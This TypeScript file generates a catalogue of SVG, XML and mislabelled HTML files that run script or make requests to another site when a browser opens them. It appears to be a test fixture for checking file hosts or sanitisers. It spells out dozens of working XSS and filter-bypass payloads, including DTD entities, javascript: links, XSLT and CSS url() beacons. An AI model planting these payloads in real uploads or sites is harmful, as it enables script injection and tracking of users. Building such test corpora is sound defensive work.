// Files that run code or contact another site when a browser opens them from a server without headers.

/** A file to open, and what it does if it is published as written: runs a script, sends a request, or nothing. */
export interface ActiveFile {
  readonly name: string;
  readonly path: string;
  readonly content: string | Uint8Array;
  readonly does: "runs" | "sends" | "nothing";
}

const SVG = "http://www.w3.org/2000/svg";
const HTML = "http://www.w3.org/1999/xhtml";
const RUN = "alert(1)";

const svg = (content: string, attributes = ""): string =>
  `<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"${attributes}>${content}</svg>`;
const html = (content: string): string => `<foreignObject width="99" height="99">${content}</foreignObject>`;
const wide = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, "utf16le");

/** `out` is the URL of the other site. */
export function activeFiles(out: string): readonly ActiveFile[] {
  const shown = '<rect width="99" height="99"/>';
  const drawings: readonly (readonly [name: string, does: ActiveFile["does"], content: string | Uint8Array])[] = [
    ["a default attribute", "runs", `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg("")}`],
    [
      "a default attribute from a parameter entity",
      "runs",
      `<!DOCTYPE svg [<!ENTITY % a "<!ATTLIST svg onload CDATA &#34;${RUN}&#34;>">%a;]>${svg("")}`,
    ],
    [
      "a default namespace",
      "runs",
      `<!DOCTYPE svg [<!ATTLIST script xmlns CDATA #FIXED "${HTML}">]>${svg(`<script>${RUN}</script>`)}`,
    ],
    ["an entity with a script", "runs", `<!DOCTYPE svg [<!ENTITY a "<script>${RUN}</script>">]>${svg("&a;")}`],
    [
      "an entity in a URL",
      "runs",
      `<!DOCTYPE svg [<!ENTITY a "javascript:">]>${svg(`<a href="&a;${RUN}">${shown}</a>`)}`,
    ],
    [
      "a named entity in a URL",
      "runs",
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "">${svg(`<a href="javascript&colon;${RUN}">${shown}</a>`)}`,
    ],
    ["a script", "runs", svg(`<script>${RUN}</script>`)],
    ["a script in a CDATA section", "runs", svg(`<script><![CDATA[${RUN}]]></script>`)],
    ["a script by URL", "runs", svg(`<script href="data:text/javascript,${RUN}"/>`)],
    ["a script by prefixed URL", "runs", svg(`<script xlink:href="data:text/javascript,${RUN}"/>`)],
    ["a script with a prefix", "runs", `<a:svg xmlns:a="${SVG}"><a:script>${RUN}</a:script></a:svg>`],
    ["a script module", "nothing", svg(`<script type="module">${RUN}</script>`)],
    ["a script of HTML", "runs", svg(`<script xmlns="${HTML}">${RUN}</script>`)],
    ["a script of HTML with a prefix", "runs", svg(`<h:script xmlns:h="${HTML}">${RUN}</h:script>`)],
    [
      "a script whose namespace has references",
      "runs",
      svg(`<h:script xmlns:h="http://www.w3.org/1999/xht&#109;l">${RUN}</h:script>`),
    ],
    ["an unusual encoding", "runs", wide(svg(`<script>${RUN}</script>`))],
    ["a handler", "runs", svg("", ` onload="${RUN}"`)],
    ["a handler with references", "runs", svg("", ` onload="&#97;lert(1)"`)],
    ["a handler without spaces around it", "runs", svg("", ` id="a"\nonload\n=\n"${RUN}"`)],
    ["a handler of an animation", "runs", svg(`<animate attributeName="x" dur="1s" onbegin="${RUN}"/>`)],
    ["a handler of an image", "runs", svg(`<image href="missing.png" onerror="${RUN}"/>`)],
    ["a handler of HTML", "runs", svg(html(`<img xmlns="${HTML}" src="missing.png" onerror="${RUN}"/>`))],
    ["a frame", "runs", svg(html(`<iframe xmlns="${HTML}" src="javascript:${RUN}"/>`))],
    ["a frame with a document", "runs", svg(html(`<iframe xmlns="${HTML}" srcdoc="&lt;script>${RUN}&lt;/script>"/>`))],
    ["a link", "runs", svg(`<a href="javascript:${RUN}">${shown}</a>`)],
    ["a prefixed link with references", "runs", svg(`<a xlink:href=" jav&#x61;s&#10;cript:${RUN}">${shown}</a>`)],
    [
      "an animated link",
      "runs",
      svg(`<a>${shown}<animate attributeName="href" values="javascript:${RUN}" dur="1s" fill="freeze"/></a>`),
    ],
    ["a link that is set", "runs", svg(`<a>${shown}<set attributeName="xlink:href" to="javascript:${RUN}"/></a>`)],
    [
      "a stylesheet that transforms",
      "runs",
      `<?xml-stylesheet type="text/xsl" href="#a"?><a><xsl:stylesheet id="a" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="${HTML}">${RUN}</script></xsl:template></xsl:stylesheet></a>`,
    ],
    [
      "a copy of a part of a data URL",
      "nothing",
      svg(
        `<use href="data:image/svg+xml,&lt;svg id='a' xmlns='${SVG}'>&lt;image href='x' onerror='${RUN}'/>&lt;/svg>#a"/>`,
      ),
    ],
    ["a refreshing page", "sends", svg(html(`<meta xmlns="${HTML}" http-equiv="refresh" content="0;url=${out}"/>`))],
    ["an image of another site", "sends", svg(`<image href="${out}" width="9" height="9"/>`)],
    [
      "a filter with an image of another site",
      "sends",
      svg(`<filter id="a"><feImage href="${out}"/></filter><rect width="9" height="9" filter="url(#a)"/>`),
    ],
    ["a stylesheet of another site", "sends", `<?xml-stylesheet href="${out}"?>${svg("")}`],
    ["an import", "sends", svg(`<style>@import "${out}";</style>`)],
    ["a background", "sends", svg("", ` style="background:url(${out})"`)],
    ["a background with an escape", "sends", svg(`<style>svg { background: \\75rl(${out}) }</style>`)],
    ["a background between comments", "sends", svg(`<style>svg { background: /**/url(${out}) }</style>`)],
    ["a set of images", "sends", svg(`<style>svg { background: image-set("${out}" 1x) }</style>`)],
    [
      "a font of another site",
      "sends",
      svg(`<style>@font-face { font-family: a; src: url(${out}) } text { font-family: a }</style><text y="9">a</text>`),
    ],
    [
      "a filter of another site",
      "sends",
      svg(`<rect width="9" height="9" fill="url(${out}#a)" filter="url(${out}#a)"/>`),
    ],
  ];
  return [
    ...drawings.map(([name, does, content], index) => ({ name, path: `images/${index}.svg`, content, does })),
    ...otherFiles(),
  ];
}

function otherFiles(): readonly ActiveFile[] {
  const script = `<script>${RUN}</script>`;
  const page = `<!doctype html><title>a</title>${script}`;
  return [
    { name: "XHTML", path: "files/a.xml", content: `<html xmlns="${HTML}">${script}</html>`, does: "runs" },
    { name: "a drawing named XML", path: "files/b.xml", content: svg("", ` onload="${RUN}"`), does: "runs" },
    {
      name: "XHTML by a default attribute",
      path: "files/c.xml",
      content: `<!DOCTYPE a [<!ATTLIST script xmlns CDATA "${HTML}">]><a>${script}</a>`,
      does: "runs",
    },
    {
      name: "MathML",
      path: "files/d.xml",
      content: `<math xmlns="http://www.w3.org/1998/Math/MathML" onclick="${RUN}"><mtext>a</mtext></math>`,
      does: "runs",
    },
    { name: "HTML with a type that hosts do not know", path: "files/e.lottie", content: page, does: "runs" },
    { name: "HTML behind spaces", path: "files/f.glb", content: `\n\n  <sCript>${RUN}</sCript>`, does: "runs" },
    { name: "HTML without a type", path: ".well-known/page", content: page, does: "runs" },
    { name: "HTML with two types", path: "files/g.html.lottie", content: `a${script}`, does: "runs" },
  ];
}
